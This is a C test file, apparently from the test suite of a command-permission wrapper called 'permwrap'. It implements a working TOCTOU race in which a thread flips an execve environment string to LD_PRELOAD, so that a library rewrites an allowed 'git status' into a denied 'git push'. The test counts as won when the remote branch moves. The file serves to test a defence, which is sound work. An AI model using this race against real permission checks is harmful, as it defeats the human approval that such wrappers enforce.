/* exec_race_env_flip: the TOCTOU race on an exec's environment. `git
 * push *` asks (headless: denied), and a library git loads from a place
 * the tree can write makes git judged as its strictest rule. Until it
 * wins (at most PERMWRAP_RACE_SECONDS), fork children in which one thread
 * calls execve(/usr/bin/git status -q origin main) from gitwork while a
 * second thread flips one envp string between "XX_PRELOAD=LIB" (nothing:
 * git status is allowed) and "LD_PRELOAD=LIB", where LIB
 * (support/push_rewrite.so, copied to free/rewrite.so) rewrites git's
 * argv to push. The kernel reads envp again after the check, so an exec
 * judged without the library may load it: permwrap must verify the
 * environment the new image got and kill it before the library runs.
 * Judged by: the remote's main branch moving. */
#include "common.h"
#include <libgen.h>
#include <pthread.h>
#include <sys/sendfile.h>
static char entry[4200];
static volatile long flips;
static void *flipper(void *arg)
{
	(void)arg;
	for (;; flips++) {
		entry[0] = 'L', entry[1] = 'D';
		__asm__ volatile("" ::: "memory"); /* keep both stores */
		entry[0] = 'X', entry[1] = 'X';
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}
static int copy_file(const char *from, const char *to)
{
	int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	struct stat st;
	if (in < 0 || out < 0 || fstat(in, &st) < 0)
		return -1;
	off_t off = 0;
	while (off < st.st_size)
		if (sendfile(out, in, &off, st.st_size - off) <= 0)
			return -1;
	close(in);
	close(out);
	return 0;
}
static void head(char *buf, size_t n)
{
	int fd = open("remote.git/refs/heads/main", O_RDONLY);
	ssize_t r = fd >= 0 ? read(fd, buf, n - 1) : -1;
	buf[r > 0 ? r : 0] = 0;
	if (fd >= 0)
		close(fd);
}
int main(int argc, char **argv)
{
	(void)argc;
	char lib[4096], from[4096], cwd[3000], start[64], now[64];
	if (!getcwd(cwd, sizeof cwd))
		return 1;
	snprintf(from, sizeof from, "%s/push_rewrite.so", dirname(strdup(argv[0])));
	snprintf(lib, sizeof lib, "%s/free/rewrite.so", cwd);
	if (copy_file(from, lib) < 0)
		note("copying %s: %s", from, strerror(errno));
	snprintf(entry, sizeof entry, "XX_PRELOAD=%s", lib);
	head(start, sizeof start);
	long tries = 0, killed = 0;
	while (race_on()) {
		pid_t c = fork();
		if (c < 0)
			break;
		if (c == 0) {
			if (chdir("gitwork") < 0)
				_exit(126);
			pthread_t t;
			char *args[] = { "git", "status", "-q", "origin", "main", NULL };
			char *envp[] = { "PATH=/usr/local/bin:/usr/bin:/bin", entry, NULL };
			pthread_create(&t, NULL, flipper, NULL);
			while (flips < 1000)
				;
			for (int i = 0; i < 50; i++)
				execve("/usr/bin/git", args, envp);
			_exit(0);
		}
		int st;
		waitpid(c, &st, 0);
		tries++;
		if (WIFSIGNALED(st))
			killed++;
		head(now, sizeof now);
		if (strcmp(now, start) != 0)
			race_won();
	}
	race_done();
	note("%ld children, %ld killed by a signal", tries, killed);
	return 0;
}
